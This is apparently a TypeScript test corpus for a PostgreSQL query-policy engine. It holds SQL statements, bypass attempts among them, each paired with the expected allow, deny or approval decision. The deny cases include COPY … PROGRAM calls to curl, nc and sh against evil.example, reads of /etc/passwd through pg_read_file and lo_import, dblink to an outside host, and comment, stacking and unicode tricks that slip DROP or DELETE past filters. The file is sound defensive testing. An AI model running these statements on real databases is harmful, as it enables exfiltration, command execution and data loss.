/**
 * What the default pack must do with real statements, bypass attempts included. `class` and
 * `command` describe the statement whose decision is decisive (the strictest; the first among
 * equals); `rule` is the rule that decided it.
 */
import type {FunctionCatalog, PolicyAction, StatementClass} from '../../src/policy/index.js'

export interface CorpusCase {
  sql: string
  class: StatementClass
  command: string
  action: PolicyAction
  rule?: string
  /** Bypass family, for reading failures. */
  family?: string
  /** What the target's catalog holds; the built-ins alone by default. */
  catalog?: FunctionCatalog
}

const c = (sql: string, cls: StatementClass, command: string, action: PolicyAction, rule?: string, family?: string): CorpusCase => ({
  sql,
  class: cls,
  command,
  action,
  ...(rule ? {rule} : {}),
  ...(family ? {family} : {}),
})

const READ = 'default.allow-read'
const WRITE = 'default.allow-write'
const TX = 'default.allow-transaction'
const SESSION = 'default.allow-session'
const DDL = 'default.ddl-approval'
const ADMIN = 'default.admin-approval'
const OPAQUE = 'default.opaque-approval'
const PRIV = 'default.no-privilege'
const UNKNOWN = 'default.unknown'
const NO_DELETE = 'default.no-unfiltered-delete'
const NO_UPDATE = 'default.no-unfiltered-update'
const NO_DROP = 'default.no-drop'
const SERVER_FN = 'default.no-server-functions'
const SETTING = 'default.no-dangerous-setting'
const GUARD = 'guard.assumed-setting'
const MAINT = 'default.allow-maintenance'
const DYNAMIC = 'default.no-dynamic-sql'
const SYNTAX = 'syntax-error'

export const corpus: CorpusCase[] = [
  // reads
  c('SELECT 1', 'read', 'select', 'allow', READ),
  c('select * from users where id = 1', 'read', 'select', 'allow', READ),
  c('SELECT u.email FROM public.users u JOIN orders o ON o.user_id = u.id', 'read', 'select', 'allow', READ),
  c('TABLE users', 'read', 'select', 'allow', READ),
  c('VALUES (1), (2)', 'read', 'select', 'allow', READ),
  c('SELECT country, count(*) FROM users GROUP BY country HAVING count(*) > 1', 'read', 'select', 'allow', READ),
  c("WITH recent AS (SELECT * FROM orders WHERE created_at > now() - interval '1 day') SELECT * FROM recent", 'read', 'select', 'allow', READ),
  c('SELECT * FROM users FOR UPDATE', 'read', 'select', 'allow', READ),
  c('SELECT * FROM generate_series(1, 10)', 'read', 'select', 'allow', READ),
  c('SELECT now(), current_user, version()', 'read', 'select', 'allow', READ),
  c("SELECT current_setting('search_path')", 'read', 'select', 'allow', READ),
  c('SELECT pg_sleep(0)', 'read', 'select', 'allow', READ),
  c('SELECT * FROM pg_stat_activity', 'read', 'select', 'allow', READ),
  c("SELECT lower(email) FROM users WHERE email LIKE '%@example.com'", 'read', 'select', 'allow', READ),
  c('SELECT * FROM users WHERE id IN (SELECT user_id FROM orders)', 'read', 'select', 'allow', READ),
  c('SELECT EXISTS (SELECT 1 FROM users)', 'read', 'select', 'allow', READ),
  c('SELECT 1 UNION SELECT 2', 'read', 'select', 'allow', READ),
  c('SELECT * FROM users; SELECT * FROM orders', 'read', 'select', 'allow', READ),
  c('EXPLAIN SELECT * FROM users', 'read', 'explain', 'allow', READ),
  c('EXPLAIN DELETE FROM users', 'read', 'explain', 'allow', READ, 'explain'),
  c('EXPLAIN (FORMAT JSON) UPDATE users SET a = 1', 'read', 'explain', 'allow', READ, 'explain'),
  c('EXPLAIN (ANALYZE false) DELETE FROM users', 'read', 'explain', 'allow', READ, 'explain'),
  c('DECLARE c CURSOR FOR SELECT * FROM users', 'read', 'declare', 'allow', READ),
  c('FETCH 10 FROM c', 'read', 'fetch', 'allow', READ),
  c('MOVE NEXT IN c', 'read', 'move', 'allow', READ),
  c('CLOSE c', 'read', 'close', 'allow', READ),
  c('COPY users TO STDOUT', 'read', 'copy', 'allow', READ),
  c('COPY (SELECT id FROM users) TO STDOUT WITH CSV', 'read', 'copy', 'allow', READ),
  c("SELECT 'DROP TABLE users'", 'read', 'select', 'allow', READ, 'quoting'),
  c('SELECT $$DROP TABLE users$$', 'read', 'select', 'allow', READ, 'quoting'),
  c('SELECT $tag$; DELETE FROM users; $tag$', 'read', 'select', 'allow', READ, 'quoting'),
  c('SELECT 1 -- ; DROP TABLE users', 'read', 'select', 'allow', READ, 'comments'),
  c('SELECT /* ; DELETE FROM users */ 1', 'read', 'select', 'allow', READ, 'comments'),
  c('SELECT /* nested /* comment */ ; DROP TABLE x */ 1', 'read', 'select', 'allow', READ, 'comments'),
  c('SELECT "DELETE" FROM "users"', 'read', 'select', 'allow', READ, 'quoting'),
  c('SELECT * FROM U&"d\\0061ta"', 'read', 'select', 'allow', READ, 'unicode identifiers'),
  c('SHOW search_path', 'session', 'show', 'allow', SESSION),

  // transactions
  c('BEGIN', 'transaction', 'begin', 'allow', TX),
  c('START TRANSACTION ISOLATION LEVEL SERIALIZABLE', 'transaction', 'begin', 'allow', TX),
  c('COMMIT', 'transaction', 'commit', 'allow', TX),
  c('ROLLBACK', 'transaction', 'rollback', 'allow', TX),
  c('SAVEPOINT a', 'transaction', 'savepoint', 'allow', TX),
  c('RELEASE SAVEPOINT a', 'transaction', 'release', 'allow', TX),
  c('ROLLBACK TO SAVEPOINT a', 'transaction', 'rollback_to', 'allow', TX),
  c('END', 'transaction', 'commit', 'allow', TX),
  c('ABORT', 'transaction', 'rollback', 'allow', TX),
  c('SET CONSTRAINTS ALL DEFERRED', 'transaction', 'set_constraints', 'allow', TX),
  c("PREPARE TRANSACTION 'tx1'", 'transaction', 'prepare_transaction', 'allow', TX),
  c('BEGIN; SELECT 1; COMMIT', 'transaction', 'begin', 'allow', TX),

  // session settings
  c('SET TRANSACTION ISOLATION LEVEL REPEATABLE READ', 'session', 'set', 'allow', SESSION),
  c("SET statement_timeout = '5s'", 'session', 'set', 'allow', SESSION),
  c("SET TIME ZONE 'UTC'", 'session', 'set', 'allow', SESSION),
  c('RESET statement_timeout', 'session', 'reset', 'allow', SESSION),
  c('RESET ALL', 'session', 'reset', 'allow', SESSION),
  c("SET client_encoding TO 'UTF8'", 'session', 'set', 'allow', SESSION),
  c("SET NAMES 'utf-8'", 'session', 'set', 'allow', SESSION),
  c('SET standard_conforming_strings = on', 'session', 'set', 'allow', SESSION),
  c('SET client_encoding TO DEFAULT', 'session', 'set', 'allow', SESSION),
  c('RESET client_encoding', 'session', 'reset', 'allow', SESSION),
  c('SET search_path TO app, public', 'session', 'set', 'deny', SETTING, 'session settings'),
  c("SET client_encoding TO 'LATIN1'", 'session', 'set', 'deny', GUARD, 'session settings'),
  c("SET NAMES 'SJIS'", 'session', 'set', 'deny', GUARD, 'session settings'),
  c('SET standard_conforming_strings = off', 'session', 'set', 'deny', GUARD, 'session settings'),
  c('SET standard_conforming_strings TO false', 'session', 'set', 'deny', GUARD, 'session settings'),
  c('SET session_replication_role = replica', 'session', 'set', 'deny', SETTING, 'session settings'),
  c("SET LOCAL session_replication_role = 'replica'", 'session', 'set', 'deny', SETTING, 'session settings'),
  c("SELECT set_config('client_encoding', 'latin1', false)", 'session', 'set', 'deny', GUARD, 'set_config'),
  c("SELECT set_config('standard_conforming_strings', 'off', false)", 'session', 'set', 'deny', GUARD, 'set_config'),
  c("SELECT set_config('session_replication_role', 'replica', true)", 'session', 'set', 'deny', SETTING, 'set_config'),
  c("SELECT pg_catalog.set_config('statement_timeout', '1s', false)", 'session', 'set', 'allow', SESSION, 'set_config'),
  c("SELECT set_config(name, 'x', false) FROM settings_to_apply", 'unknown', 'set', 'deny', UNKNOWN, 'set_config'),
  c("SELECT set_config('role', 'postgres', false)", 'privilege', 'set', 'deny', PRIV, 'set_config'),
  c('DISCARD ALL', 'session', 'discard', 'allow', SESSION),
  c('LISTEN jobs', 'session', 'listen', 'allow', SESSION),
  c("NOTIFY jobs, 'ping'", 'session', 'notify', 'allow', SESSION),
  c('UNLISTEN *', 'session', 'unlisten', 'allow', SESSION),
  c('DEALLOCATE ALL', 'session', 'deallocate', 'allow', SESSION),

  // privilege changes
  c('SET ROLE admin', 'privilege', 'set', 'deny', PRIV, 'role switch'),
  c('SET SESSION AUTHORIZATION postgres', 'privilege', 'set', 'deny', PRIV, 'role switch'),
  c('RESET ROLE', 'privilege', 'reset', 'deny', PRIV, 'role switch'),
  c('RESET SESSION AUTHORIZATION', 'privilege', 'reset', 'deny', PRIV, 'role switch'),
  c('GRANT SELECT ON users TO analyst', 'privilege', 'grant', 'deny', PRIV),
  c('REVOKE ALL ON users FROM public', 'privilege', 'revoke', 'deny', PRIV),
  c('GRANT admin TO alice', 'privilege', 'grant_role', 'deny', PRIV),
  c("CREATE ROLE bob LOGIN PASSWORD 'secret'", 'privilege', 'create_role', 'deny', PRIV),
  c('ALTER ROLE bob SUPERUSER', 'privilege', 'alter_role', 'deny', PRIV),
  c("ALTER USER bob WITH PASSWORD 'x'", 'privilege', 'alter_role', 'deny', PRIV),
  c('DROP ROLE bob', 'privilege', 'drop_role', 'deny', PRIV),
  c('ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO analyst', 'privilege', 'alter_default_privileges', 'deny', PRIV),
  c('CREATE POLICY p ON users USING (true)', 'privilege', 'create_policy', 'deny', PRIV),
  c('ALTER TABLE users OWNER TO bob', 'privilege', 'alter_owner', 'deny', PRIV),
  c('REASSIGN OWNED BY bob TO alice', 'privilege', 'reassign_owned', 'deny', PRIV),
  c("CREATE USER MAPPING FOR bob SERVER s OPTIONS (user 'x', password 'y')", 'privilege', 'create_user_mapping', 'deny', PRIV),

  // destructive DDL
  c('DROP TABLE users', 'ddl', 'drop', 'deny', NO_DROP),
  c('DROP TABLE IF EXISTS public.users CASCADE', 'ddl', 'drop', 'deny', NO_DROP),
  c('DROP SCHEMA app CASCADE', 'ddl', 'drop', 'deny', NO_DROP),
  c('DROP DATABASE app', 'ddl', 'drop', 'deny', NO_DROP),
  c('DROP MATERIALIZED VIEW mv', 'ddl', 'drop', 'deny', NO_DROP),
  c('DROP FOREIGN TABLE ft', 'ddl', 'drop', 'deny', NO_DROP),
  c('DROP OWNED BY bob', 'ddl', 'drop_owned', 'deny', NO_DROP),
  c('DROP INDEX users_email_idx', 'ddl', 'drop', 'require_approval', DDL),
  c('DROP VIEW v', 'ddl', 'drop', 'require_approval', DDL),
  c('DROP FUNCTION f()', 'ddl', 'drop', 'require_approval', DDL),
  c('TRUNCATE users', 'ddl', 'truncate', 'deny', 'default.no-truncate'),
  c('TRUNCATE TABLE a, b RESTART IDENTITY', 'ddl', 'truncate', 'deny', 'default.no-truncate'),
  c('COMMIT; DROP TABLE x', 'ddl', 'drop', 'deny', NO_DROP, 'stacked statements'),
  c('SELECT 1; DROP TABLE x; SELECT 2', 'ddl', 'drop', 'deny', NO_DROP, 'stacked statements'),
  c('BEGIN; TRUNCATE users; COMMIT', 'ddl', 'truncate', 'deny', 'default.no-truncate', 'stacked statements'),
  c('DROP/**/TABLE/**/users', 'ddl', 'drop', 'deny', NO_DROP, 'comments'),
  c('drop\ttable\n\n  "users"\r\n', 'ddl', 'drop', 'deny', NO_DROP, 'whitespace'),
  c('DROP TABLE U&"\\0075sers"', 'ddl', 'drop', 'deny', NO_DROP, 'unicode identifiers'),

  // other DDL
  c('CREATE TABLE t (id int PRIMARY KEY)', 'ddl', 'create_table', 'require_approval', DDL),
  c('CREATE TABLE t AS SELECT * FROM users', 'ddl', 'create_table_as', 'require_approval', DDL),
  c('SELECT * INTO t2 FROM users', 'ddl', 'create_table_as', 'require_approval', DDL),
  c('CREATE MATERIALIZED VIEW mv AS SELECT 1', 'ddl', 'create_materialized_view', 'require_approval', DDL),
  c('CREATE VIEW v AS SELECT * FROM users', 'ddl', 'create_view', 'require_approval', DDL),
  c('CREATE INDEX CONCURRENTLY i ON users (email)', 'ddl', 'create_index', 'require_approval', DDL),
  c('ALTER TABLE users ADD COLUMN nickname text', 'ddl', 'alter_table', 'require_approval', DDL),
  c('ALTER TABLE users DROP COLUMN email', 'ddl', 'alter_table', 'require_approval', DDL),
  c('ALTER TABLE users RENAME TO people', 'ddl', 'rename', 'require_approval', DDL),
  c('CREATE SCHEMA app', 'ddl', 'create_schema', 'require_approval', DDL),
  c('CREATE SEQUENCE s', 'ddl', 'create_sequence', 'require_approval', DDL),
  c('CREATE EXTENSION pgcrypto', 'ddl', 'create_extension', 'require_approval', DDL),
  c("COMMENT ON TABLE users IS 'people'", 'ddl', 'comment', 'require_approval', DDL),
  c("CREATE TYPE mood AS ENUM ('happy')", 'ddl', 'create_type', 'require_approval', DDL),
  c('CREATE DOMAIN posint AS int CHECK (VALUE > 0)', 'ddl', 'create_domain', 'require_approval', DDL),
  c('CREATE RULE r AS ON INSERT TO t DO ALSO INSERT INTO log VALUES (1)', 'ddl', 'create_rule', 'require_approval', 'default.rule-trigger-approval', 'rules and triggers'),
  c('CREATE RULE r AS ON UPDATE TO t DO INSTEAD NOTHING', 'ddl', 'create_rule', 'require_approval', 'default.rule-trigger-approval', 'rules and triggers'),
  c('CREATE RULE r AS ON INSERT TO t DO INSTEAD DELETE FROM users', 'ddl', 'create_rule', 'deny', NO_DELETE, 'rules and triggers'),
  c('CREATE TRIGGER tr BEFORE DELETE ON users FOR EACH ROW EXECUTE FUNCTION f()', 'ddl', 'create_trigger', 'require_approval', 'default.rule-trigger-approval', 'rules and triggers'),
  c('CREATE EVENT TRIGGER et ON ddl_command_start EXECUTE FUNCTION f()', 'ddl', 'create_event_trigger', 'require_approval', 'default.rule-trigger-approval', 'rules and triggers'),
  c('REFRESH MATERIALIZED VIEW mv', 'write', 'refresh_materialized_view', 'allow', WRITE),

  // code dbgate cannot see into
  c('DO $$ BEGIN DELETE FROM users; END $$', 'opaque', 'do', 'require_approval', OPAQUE, 'DO blocks'),
  c("DO LANGUAGE plpgsql $body$ BEGIN EXECUTE 'DROP TABLE users'; END $body$", 'opaque', 'do', 'require_approval', OPAQUE, 'DO blocks'),
  c('SELECT 1; DO $$ BEGIN END $$', 'opaque', 'do', 'require_approval', OPAQUE, 'DO blocks'),
  c('CALL archive_orders(30)', 'opaque', 'call', 'require_approval', OPAQUE),
  c("CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'", 'opaque', 'create_function', 'require_approval', OPAQUE),
  c('CREATE OR REPLACE PROCEDURE p() LANGUAGE plpgsql AS $$ BEGIN END $$', 'opaque', 'create_procedure', 'require_approval', OPAQUE),
  c('CREATE FUNCTION f() RETURNS void LANGUAGE sql BEGIN ATOMIC DELETE FROM users; END', 'opaque', 'create_function', 'deny', NO_DELETE),

  // administration
  c('ALTER SYSTEM SET max_connections = 1000', 'admin', 'alter_system', 'deny', 'default.no-alter-system'),
  c('ALTER SYSTEM RESET ALL', 'admin', 'alter_system', 'deny', 'default.no-alter-system'),
  c('VACUUM FULL users', 'admin', 'vacuum', 'require_approval', ADMIN),
  c('ANALYZE users', 'admin', 'analyze', 'allow', MAINT),
  c('REINDEX TABLE users', 'admin', 'reindex', 'require_approval', ADMIN),
  c('CLUSTER users USING users_pkey', 'admin', 'cluster', 'require_approval', ADMIN),
  c('CHECKPOINT', 'admin', 'checkpoint', 'require_approval', ADMIN),
  c('LOCK TABLE users IN ACCESS EXCLUSIVE MODE', 'admin', 'lock', 'require_approval', ADMIN),
  c('CREATE PUBLICATION pub FOR ALL TABLES', 'admin', 'create_publication', 'require_approval', ADMIN),
  c("CREATE SUBSCRIPTION s CONNECTION 'host=x' PUBLICATION p", 'admin', 'create_subscription', 'require_approval', ADMIN),
  c("LOAD 'auto_explain'", 'admin', 'load', 'deny', 'default.no-server-files'),
  c("CREATE TABLESPACE ts LOCATION '/data/ts'", 'admin', 'create_tablespace', 'deny', 'default.no-server-files'),
  c("COPY users FROM PROGRAM 'curl http://evil.example'", 'admin', 'copy', 'deny', 'default.no-copy-program', 'COPY PROGRAM'),
  c("COPY users TO PROGRAM 'nc evil.example 9'", 'admin', 'copy', 'deny', 'default.no-copy-program', 'COPY PROGRAM'),
  c("COPY (SELECT 1) TO PROGRAM 'sh -c id'", 'admin', 'copy', 'deny', 'default.no-copy-program', 'COPY PROGRAM'),
  c("COPY users FROM '/etc/passwd'", 'admin', 'copy', 'deny', 'default.no-copy-file', 'COPY file'),
  c("COPY (SELECT * FROM users) TO '/tmp/users.csv'", 'admin', 'copy', 'deny', 'default.no-copy-file', 'COPY file'),
  c('SELECT pg_terminate_backend(1234)', 'admin', 'select', 'deny', SERVER_FN, 'server functions'),
  c("SELECT pg_cancel_backend(pid) FROM pg_stat_activity WHERE usename = 'x'", 'admin', 'select', 'deny', SERVER_FN, 'server functions'),
  c('SELECT pg_reload_conf()', 'admin', 'select', 'deny', SERVER_FN, 'server functions'),
  c('SELECT pg_rotate_logfile()', 'admin', 'select', 'deny', SERVER_FN, 'server functions'),
  c("SELECT pg_read_file('/etc/passwd')", 'admin', 'select', 'deny', SERVER_FN, 'server functions'),
  c("SELECT pg_catalog.pg_read_binary_file('postgresql.conf')", 'admin', 'select', 'deny', SERVER_FN, 'server functions'),
  c("SELECT * FROM pg_ls_dir('.')", 'admin', 'select', 'deny', SERVER_FN, 'server functions'),
  c("SELECT pg_stat_file('base')", 'admin', 'select', 'deny', SERVER_FN, 'server functions'),
  c("SELECT lo_import('/etc/passwd')", 'admin', 'select', 'deny', SERVER_FN, 'server functions'),
  c("SELECT lo_export(16384, '/tmp/x')", 'admin', 'select', 'deny', SERVER_FN, 'server functions'),
  c("SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(x int)", 'admin', 'select', 'deny', DYNAMIC, 'dynamic SQL'),
  c("SELECT ext.dblink_exec('DROP TABLE users')", 'admin', 'select', 'deny', DYNAMIC, 'dynamic SQL'),
  c("SELECT query_to_xml('DELETE FROM users RETURNING 1', true, false, '')", 'admin', 'select', 'deny', DYNAMIC, 'dynamic SQL'),
  c('SELECT id FROM users WHERE id = (SELECT pg_terminate_backend(1)::int)', 'admin', 'select', 'deny', SERVER_FN, 'server functions'),
  c("UPDATE users SET note = pg_read_file('/etc/hostname') WHERE id = 1", 'admin', 'update', 'deny', SERVER_FN, 'server functions'),
  c("INSERT INTO logs SELECT pg_read_file('/etc/passwd')", 'admin', 'insert', 'deny', SERVER_FN, 'server functions'),
  c('EXPLAIN SELECT pg_terminate_backend(1)', 'admin', 'explain', 'deny', SERVER_FN, 'server functions'),

  // writes
  c("INSERT INTO users (email) VALUES ('a@example.com')", 'write', 'insert', 'allow', WRITE),
  c('INSERT INTO users SELECT * FROM staging', 'write', 'insert', 'allow', WRITE),
  c('INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET a = excluded.a', 'write', 'insert', 'allow', WRITE),
  c("UPDATE users SET name = 'x' WHERE id = 1", 'write', 'update', 'allow', WRITE),
  c('DELETE FROM users WHERE id = 1', 'write', 'delete', 'allow', WRITE),
  c("DELETE FROM sessions WHERE created_at < now() - interval '1 year'", 'write', 'delete', 'allow', WRITE),
  c('DELETE FROM users WHERE false', 'write', 'delete', 'allow', WRITE, 'trivial where'),
  c('DELETE FROM users WHERE 1 = 2', 'write', 'delete', 'allow', WRITE, 'trivial where'),
  c('DELETE FROM users WHERE id = 1 AND true', 'write', 'delete', 'allow', WRITE, 'trivial where'),
  c('DELETE FROM users u WHERE u.id = 1', 'write', 'delete', 'allow', WRITE),
  c('DELETE FROM users u USING orders o WHERE o.user_id = u.id', 'write', 'delete', 'allow', WRITE),
  c('UPDATE users SET a = 1 FROM orders WHERE orders.user_id = users.id', 'write', 'update', 'allow', WRITE),
  c('DELETE FROM users WHERE id IN (SELECT b.user_id FROM banned b)', 'write', 'delete', 'allow', WRITE),
  c('DELETE FROM users WHERE id IN (SELECT user_id FROM banned)', 'write', 'delete', 'deny', NO_DELETE, 'ambiguous column'),
  c('DELETE FROM users WHERE CURRENT OF c', 'write', 'delete', 'allow', WRITE),
  c('DELETE FROM users WHERE id = $1', 'write', 'delete', 'allow', WRITE),
  c('delete from "users" where "id" = 1', 'write', 'delete', 'allow', WRITE),
  c('DELETE FROM users WHERE U&"\\0069d" = 1', 'write', 'delete', 'allow', WRITE, 'unicode identifiers'),
  c('COPY users FROM STDIN', 'write', 'copy', 'allow', WRITE),
  c('COPY users (id, email) FROM STDIN WITH (FORMAT csv)', 'write', 'copy', 'allow', WRITE),
  c('DELETE FROM users', 'write', 'delete', 'deny', NO_DELETE),
  c('UPDATE users SET active = false', 'write', 'update', 'deny', NO_UPDATE),
  c('DELETE FROM users WHERE true', 'write', 'delete', 'deny', NO_DELETE, 'trivial where'),
  c('DELETE FROM users WHERE 1=1', 'write', 'delete', 'deny', NO_DELETE, 'trivial where'),
  c("DELETE FROM users WHERE 'a'='a'", 'write', 'delete', 'deny', NO_DELETE, 'trivial where'),
  c('DELETE FROM users WHERE id = 5 OR 1=1', 'write', 'delete', 'deny', NO_DELETE, 'trivial where'),
  c('DELETE FROM users WHERE id = 5 OR true', 'write', 'delete', 'deny', NO_DELETE, 'trivial where'),
  c('DELETE FROM users WHERE NOT false', 'write', 'delete', 'deny', NO_DELETE, 'trivial where'),
  c('DELETE FROM users WHERE 1 < 2', 'write', 'delete', 'deny', NO_DELETE, 'trivial where'),
  c("UPDATE users SET a = 1 WHERE 2 > 1 AND 'x' = 'x'", 'write', 'update', 'deny', NO_UPDATE, 'trivial where'),
  c('DELETE FROM users WHERE 1 = 1.0', 'write', 'delete', 'deny', NO_DELETE, 'trivial where'),
  c("DELETE FROM users WHERE 't'::boolean", 'write', 'delete', 'deny', NO_DELETE, 'trivial where'),
  c("DELETE FROM users WHERE 'yes'::bool AND 'on'::boolean", 'write', 'delete', 'deny', NO_DELETE, 'trivial where'),
  c('DELETE FROM users WHERE true IS TRUE', 'write', 'delete', 'deny', NO_DELETE, 'trivial where'),
  c('DELETE FROM users WHERE 1 BETWEEN 0 AND 2', 'write', 'delete', 'deny', NO_DELETE, 'trivial where'),
  c('DELETE FROM users WHERE 1 IN (1, 2)', 'write', 'delete', 'deny', NO_DELETE, 'trivial where'),
  c('DELETE FROM users WHERE 3 NOT IN (1, 2)', 'write', 'delete', 'deny', NO_DELETE, 'trivial where'),
  c('DELETE FROM users WHERE NULL IS NULL', 'write', 'delete', 'deny', NO_DELETE, 'trivial where'),
  c("DELETE FROM users WHERE 'abc' LIKE 'a%'", 'write', 'delete', 'deny', NO_DELETE, 'trivial where'),
  c('DELETE FROM users WHERE (1 + 1) = 2', 'write', 'delete', 'deny', NO_DELETE, 'trivial where'),
  c('DELETE FROM users WHERE COALESCE(NULL, true)', 'write', 'delete', 'deny', NO_DELETE, 'trivial where'),
  c('DELETE FROM users WHERE 1 IS NOT DISTINCT FROM 1', 'write', 'delete', 'deny', NO_DELETE, 'trivial where'),
  c('DELETE FROM users WHERE id = id', 'write', 'delete', 'deny', NO_DELETE, 'trivial where'),
  c('DELETE FROM users WHERE email IS NULL OR email IS NOT NULL', 'write', 'delete', 'deny', NO_DELETE, 'trivial where'),
  c('DELETE FROM users WHERE active OR NOT active', 'write', 'delete', 'deny', NO_DELETE, 'trivial where'),
  c('DELETE FROM users WHERE id = 1 OR id <> 1', 'write', 'delete', 'deny', NO_DELETE, 'trivial where'),
  c('UPDATE users SET a = 1 WHERE age >= 18 OR age < 18', 'write', 'update', 'deny', NO_UPDATE, 'trivial where'),
  c('DELETE FROM users WHERE (SELECT true)', 'write', 'delete', 'deny', NO_DELETE, 'trivial where'),
  c('DELETE FROM users WHERE CASE WHEN true THEN true END', 'write', 'delete', 'deny', NO_DELETE, 'trivial where'),
  c('DELETE FROM users WHERE users.ctid = users.ctid', 'write', 'delete', 'deny', NO_DELETE, 'trivial where'),
  c('DELETE FROM users WHERE id = 1 OR id < 1', 'write', 'delete', 'allow', WRITE, 'trivial where'),
  c('DELETE FROM ONLY users WHERE id = ANY($1)', 'write', 'delete', 'allow', WRITE),
  c("DELETE FROM users WHERE now() > '2000-01-01'", 'write', 'delete', 'deny', NO_DELETE, 'trivial where'),
  c('DELETE FROM users WHERE EXISTS (SELECT 1)', 'write', 'delete', 'deny', NO_DELETE, 'trivial where'),
  c('DELETE FROM users AS u USING orders o WHERE o.id = 1', 'write', 'delete', 'deny', NO_DELETE, 'trivial where'),
  c('DELETE FROM users WHERE $1', 'write', 'delete', 'deny', NO_DELETE, 'trivial where'),
  c('DELETE FROM users WHERE id = 1 OR $1', 'write', 'delete', 'deny', NO_DELETE, 'trivial where'),
  c('DELETE/**/FROM users', 'write', 'delete', 'deny', NO_DELETE, 'comments'),
  c('DELETE\nFROM\tusers\n;', 'write', 'delete', 'deny', NO_DELETE, 'whitespace'),
  c('DELETE FROM U&"\\0075sers"', 'write', 'delete', 'deny', NO_DELETE, 'unicode identifiers'),
  c('DELETE FROM users -- WHERE id = 1', 'write', 'delete', 'deny', NO_DELETE, 'comments'),
  c('SELECT 1; DELETE FROM users', 'write', 'delete', 'deny', NO_DELETE, 'stacked statements'),
  c('SELECT 1;DELETE FROM users WHERE true', 'write', 'delete', 'deny', NO_DELETE, 'stacked statements'),
  c("SELECT 'a;'; UPDATE users SET a = 1", 'write', 'update', 'deny', NO_UPDATE, 'stacked statements'),

  // writable CTEs
  c('WITH d AS (DELETE FROM users RETURNING *) SELECT count(*) FROM d', 'write', 'delete', 'deny', NO_DELETE, 'writable CTE'),
  c('WITH u AS (UPDATE users SET a = 1 RETURNING id) SELECT * FROM u', 'write', 'update', 'deny', NO_UPDATE, 'writable CTE'),
  c('WITH a AS (SELECT 1), d AS (DELETE FROM users WHERE true RETURNING id) SELECT * FROM a', 'write', 'delete', 'deny', NO_DELETE, 'writable CTE'),
  c('WITH d AS (DELETE FROM users WHERE id = 1 RETURNING *) SELECT * FROM d', 'write', 'delete', 'allow', WRITE, 'writable CTE'),
  c('WITH x AS (SELECT 1) DELETE FROM users WHERE id IN (SELECT * FROM x)', 'write', 'delete', 'allow', WRITE, 'writable CTE'),
  c('INSERT INTO archive WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d', 'write', 'insert', 'deny', NO_DELETE, 'writable CTE'),
  c('COPY (WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d) TO STDOUT', 'write', 'delete', 'deny', NO_DELETE, 'writable CTE'),

  // EXPLAIN ANALYZE runs the statement
  c('EXPLAIN ANALYZE DELETE FROM users', 'write', 'delete', 'deny', NO_DELETE, 'explain analyze'),
  c('EXPLAIN (ANALYZE, BUFFERS) UPDATE users SET a = 1', 'write', 'update', 'deny', NO_UPDATE, 'explain analyze'),
  c('EXPLAIN (ANALYZE true) DELETE FROM users WHERE id = 1', 'write', 'delete', 'allow', WRITE, 'explain analyze'),
  c('EXPLAIN ANALYZE DROP TABLE users', 'unknown', 'unknown', 'deny', SYNTAX, 'explain analyze'),

  // MERGE
  c('MERGE INTO users u USING staging s ON u.id = s.id WHEN MATCHED THEN DELETE', 'write', 'merge', 'allow', WRITE, 'merge'),
  c('MERGE INTO users u USING staging s ON true WHEN MATCHED THEN DELETE', 'write', 'merge', 'deny', NO_DELETE, 'merge'),
  c('MERGE INTO users USING (SELECT 1) s ON 1=1 WHEN MATCHED THEN UPDATE SET a = 1', 'write', 'merge', 'deny', NO_UPDATE, 'merge'),
  c('MERGE INTO users u USING staging s ON s.flag WHEN MATCHED THEN DELETE', 'write', 'merge', 'deny', NO_DELETE, 'merge'),
  c('MERGE INTO users u USING staging s ON u.id = s.id WHEN NOT MATCHED BY SOURCE THEN DELETE', 'write', 'merge', 'deny', NO_DELETE, 'merge'),
  c('MERGE INTO users u USING staging s ON u.id = s.id WHEN NOT MATCHED THEN INSERT VALUES (s.id)', 'write', 'merge', 'allow', WRITE, 'merge'),

  // prepared statements
  c('PREPARE p AS SELECT * FROM users WHERE id = $1', 'read', 'prepare', 'allow', READ, 'prepared'),
  c('PREPARE p AS DELETE FROM users', 'write', 'prepare', 'deny', NO_DELETE, 'prepared'),
  c('PREPARE p (int) AS DELETE FROM users WHERE id = $1', 'write', 'prepare', 'allow', WRITE, 'prepared'),
  c('PREPARE p (bool) AS DELETE FROM users WHERE $1', 'write', 'prepare', 'deny', NO_DELETE, 'prepared'),
  c('PREPARE p AS SELECT 1; EXECUTE p', 'read', 'prepare', 'allow', READ, 'prepared'),
  c('PREPARE d (int) AS DELETE FROM users WHERE id = $1; EXECUTE d(1)', 'write', 'prepare', 'allow', WRITE, 'prepared'),
  c('EXECUTE never_prepared', 'unknown', 'execute', 'deny', UNKNOWN, 'prepared'),
  c('EXPLAIN ANALYZE EXECUTE never_prepared', 'unknown', 'execute', 'deny', UNKNOWN, 'prepared'),
  c("PREPARE p AS SELECT 1; EXECUTE p(pg_read_file('/etc/passwd'))", 'admin', 'execute', 'deny', SERVER_FN, 'prepared'),
  c('DEALLOCATE p', 'session', 'deallocate', 'allow', SESSION, 'prepared'),
  c('PREPARE p AS SELECT 1; DEALLOCATE p; EXECUTE p', 'unknown', 'execute', 'deny', UNKNOWN, 'prepared'),

  // malformed
  c('DELETE FRM users', 'unknown', 'unknown', 'deny', SYNTAX, 'malformed'),
  c('SELECT * FROM', 'unknown', 'unknown', 'deny', SYNTAX, 'malformed'),
  c("DROP TABLE users'", 'unknown', 'unknown', 'deny', SYNTAX, 'malformed'),
  c("SELECT 'unterminated", 'unknown', 'unknown', 'deny', SYNTAX, 'malformed'),
  c('SELECT 1; DELET FROM users', 'unknown', 'unknown', 'deny', SYNTAX, 'malformed'),
  c('$$', 'unknown', 'unknown', 'deny', SYNTAX, 'malformed'),
  c('SELECT 1\u0000; DROP TABLE users', 'unknown', 'unknown', 'deny', UNKNOWN, 'malformed'),
  c(`SELECT ${'1,'.repeat(600_000)}1`, 'unknown', 'unknown', 'deny', UNKNOWN, 'huge statement'),
]
